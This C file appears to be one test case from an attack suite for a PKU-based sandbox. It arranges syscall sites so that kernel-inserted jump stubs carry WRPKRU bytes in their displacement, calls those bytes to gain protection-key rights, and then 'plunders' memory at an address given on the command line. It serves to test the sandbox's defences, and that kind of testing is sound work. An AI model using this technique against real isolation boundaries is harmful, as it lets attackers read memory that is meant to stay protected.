/* Let the kernel write the WRPKRU: as the distance of the jump to a stub that it puts in the place of a system call.
 *
 *   mov $nr, %eax; syscall    →    e9 [0f 01 ef] ff  0f 05      the stub is 0x10fef1 bytes below
 *
 * Defence: what the kernel puts there is looked through as well.  Control: off=patch. */
#include "attack.h"

#define SITES 64
#define SITE 64                 /* bytes: two stubs, so whichever number the first site has, one of them is right */

/* The stubs begin seventeen pages below the program, which begins at 0x1000000; the sites, so that the n-th and the 2n-th stub meet. */
asm(".pushsection .patch, \"ax\"\n"
    ".p2align 19\n"
    ".skip 0x7eef1 - 5\n"
    "sites:\n"
    ".rept 64\n"
    "0:\n"
    ".cfi_startproc\n"
    "mov $39, %eax; syscall; nop; nop; nop; nop; ret\n"
    ".cfi_endproc\n"
    ".skip 64 - (. - 0b), 0xcc\n"
    ".endr\n"
    ".popsection");
extern u8 sites[];

static volatile u8 wanted[] = {I(0xe9), WRPKRU, I(0xff)};

static const u8 *find(void) {
    for (const u8 *site = sites; site < sites + SITES * SITE; site += SITE) {
        u64 same = 0;
        while (same < sizeof wanted && site[same] == (u8)~wanted[same])
            same++;
        if (same == sizeof wanted)
            return site + 1;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    const u8 *code = find();
    if (!code)
        return refused("every jump", -1);
    /* behind it: ff 0f, which is decl (%rdi), and 05, an addition */
    asm volatile("call *%%rbx" :: "b"(code), "D"(&(u32){0}), "a"(0), "c"(0), "d"(0) : "memory", "r11");
    return plunder(hexadecimal(argv[1]));
}
